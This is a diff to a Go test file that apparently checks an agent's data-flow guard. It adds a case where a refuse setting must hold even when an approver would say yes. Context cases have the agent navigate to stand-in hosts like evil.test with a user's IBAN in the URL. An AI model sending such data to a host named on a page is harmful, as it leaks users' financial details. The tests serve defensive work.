@@ -387,6 +387,7 @@ func TestFlowsAllowed(t *testing.T) {
 		{name: "Flows names the host alone", src: own, turns: fill, task: agent.Task{Flows: []agent.AllowedFlow{{To: "evil.test"}}}, out: true},
 		{name: "allow", src: plain, turns: fill, cfg: agent.Config{Flows: agent.FlowsAllow}, out: true},
 		{name: "refuse", src: plain, turns: fill, cfg: agent.Config{Flows: agent.FlowsRefuse}},
+		{name: "refuse, and an approver who would say yes", src: plain, turns: fill, cfg: agent.Config{Flows: agent.FlowsRefuse, Approve: func(context.Context, agent.Approval) error { return nil }}},
 		{name: "to where it was read", src: plain, turns: []turn{{do("navigate", args{"url": "https://bank.test/?q=" + iban})}}},
 		{name: "what the destination shows", src: &source{bank: "<p>Evil"}, turns: fills("https://evil.test/", []string{"Evil"})},
 		{name: "an address that a page shows", src: &source{bank: `<p>` + facts + `<a href="https://evil.test/offers/` + iban + `">Offer</a>`}, turns: []turn{{do("navigate", args{"url": "https://evil.test/offers/" + iban})}}, out: true},
